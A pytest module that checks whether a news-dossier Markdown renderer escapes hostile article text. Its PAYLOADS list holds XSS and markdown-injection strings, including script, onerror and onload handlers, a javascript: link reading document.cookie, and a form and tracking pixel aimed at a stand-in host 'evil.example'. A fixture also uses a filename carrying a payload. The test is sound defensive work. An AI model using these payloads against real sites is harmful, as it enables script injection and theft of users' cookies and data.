"""dossier.md: article text stays text. Rendered with a CommonMark renderer (markdown-it-py), a dossier
whose articles carry script and HTML payloads yields no HTML, link or image, and no element at all
beyond the ones the report itself makes."""

from __future__ import annotations

import dataclasses
import json
import re
from typing import Any

import pytest
from markdown_it import MarkdownIt

from storyline.engines import build
from storyline.model import Dossier, Skipped
from storyline.report import render_markdown

PAYLOADS = [
    "<script>window.name='pwned'</script>",
    "<img src=x onerror=\"window.name='pwned'\">",
    "<svg onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=q><button>Go</button></form>',
    "<!-- hidden --> <a href=https://evil.example>a</a> <iframe src=//evil.example></iframe>",
    "[click here](javascript:alert(document.cookie))",
    "![tracker](https://evil.example/pixel.png)",
    "<https://evil.example/auto> <javascript:alert(1)> https://evil.example/bare www.evil.example press@evil.example",
    "*em* **strong** _em_ ~~struck~~ `code` {onclick=alert(1)} &lt;script&gt; &#x3C;b&#x3E;",
    "[ref] [ref]: javascript:alert(1)",
    "| cell | break |",
    "\\<script\\>escaped by the source\\</script\\>",
]
ALL = " ".join(PAYLOADS)
LEADING = ["1. ", "- ", "> ", "# ", "+ ", "=== ", "    ", "2) ", "<div>", "```"]


def tokens(md: str) -> list[str]:
    """Every element the renderer makes (block tokens, then the inline tokens inside each), text aside."""
    out: list[str] = []
    for tok in MarkdownIt("commonmark").enable("table").enable("strikethrough").parse(md):
        out.append(tok.type)
        out += [child.type for child in tok.children or [] if child.type not in ("text", "text_special")]
    return out


def assert_no_element_from_text(md: str) -> None:
    found = set(tokens(md))
    for bad in ("html_block", "html_inline", "link_open", "image", "code_inline", "code_block", "fence",
                "blockquote_open", "ordered_list_open", "em_open", "s_open"):
        assert bad not in found, (bad, md)
    html = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(md)
    assert not re.search(r"<(script|img|svg|meta|form|iframe|a|input|button|em|code|s)\b", html), html
    # nothing left for GFM's autolinks: no bare scheme://, www. or address
    assert not re.search(r"(?<!\\):/|(?i:\bwww\.)|(?<!\\)@", md), re.search(r".{30}(?<!\\)(:/|@|www\.).{30}", md)


def taint(obj: Any, extra: str, i: list[int]) -> Any:
    """``obj`` with every string in it (ids too, consistently) given a payload, dates and kinds included."""
    if isinstance(obj, str):
        i[0] += 1
        return f"{LEADING[i[0] % len(LEADING)]}{obj} {extra}" if obj else obj
    if isinstance(obj, list):
        return [taint(x, extra, i) for x in obj]
    if isinstance(obj, tuple):
        return tuple(taint(x, extra, i) for x in obj)
    if isinstance(obj, dict):
        return {k: taint(v, extra, i) for k, v in obj.items()}
    if dataclasses.is_dataclass(obj) and not isinstance(obj, type):
        changes = {f.name: taint(getattr(obj, f.name), extra, i) for f in dataclasses.fields(obj)
                   if f.name not in ("raw_text", "clean_text", "offset_map")}
        return dataclasses.replace(obj, **changes)
    return obj




@pytest.fixture(scope="module")
def built(nlp, tmp_path_factory) -> Dossier:
    """Fictional reports whose metadata and text carry the payloads, read and analysed by the real build."""
    folder = tmp_path_factory.mktemp("payloads")
    body = ("The Gull Bay ferry pier reopened on Monday after a week of repairs, the port authority said. "
            f"Harbour master Ana Lindqvist said \"{PAYLOADS[0]} the pier is safe for 400 passengers\". "
            f"Repairs cost 2.5 million kronor {PAYLOADS[6]}, the authority said on 3 March 2025.")
    records = [
        {"title": f"Ferry pier reopens {p}", "outlet": f"Courier {p}", "author": f"Mia Berg {p}",
         "published": "2025-03-04", "url": f"https://courier{i}.example/pier",
         "text": f"{body}\n\nA spokesperson said \"{p} we are pleased\". {p} Ana Lindqvist {p} thanked the crews."}
        for i, p in enumerate(PAYLOADS)
    ]
    (folder / "reports.json").write_text(json.dumps(records), encoding="utf-8")
    (folder / "broken <img src=x onerror=alert(1)> [x](javascript:alert(1)).json").write_text("{not json", encoding="utf-8")
    return build([folder], nlp=nlp)


def test_a_built_dossier_of_payload_articles_renders_no_element_from_their_text(built):
    assert built.articles and built.stories and built.skipped
    md = render_markdown(built)
    assert_no_element_from_text(md)
    html = MarkdownIt("commonmark").enable("table").render(md)
    assert "&lt;img src=x onerror=" in html and "&lt;form action=" in html  # shown as text, not dropped


def test_every_string_of_every_item_kind_is_escaped(example_dossier):
    """The example story has every item kind; every string in it (titles, outlets, authors, quotes,
    entity names and roles, timeline text and dates, figures and units, sources, copies, dating,
    skip reasons) gets every payload, and a line-start marker before it."""
    present = {f.name for f in dataclasses.fields(example_dossier.stories[0]) if getattr(example_dossier.stories[0], f.name)}
    assert {"summary", "timeline", "quotes", "claims", "entities", "cited_sources", "copies"} <= present
    tainted = taint(example_dossier, ALL, [0])
    tainted.skipped.append(Skipped(f"in/[/warc] {ALL}.warc", f"bad record {ALL}"))
    md = render_markdown(tainted)
    assert md.count("pwned") >= 50
    html = MarkdownIt("commonmark").render(md)
    assert "[click here](javascript:alert(document.cookie))" in html and "&lt;svg onload=alert(1)&gt;" in html
    assert_no_element_from_text(md)
    # the report's own structure is unchanged by what the articles say
    plain = taint(example_dossier, "PAYLOAD", [0])
    plain.skipped.append(Skipped("in/warc PAYLOAD.warc", "bad record PAYLOAD"))
    plain = render_markdown(plain)
    assert tokens(md) == tokens(plain)
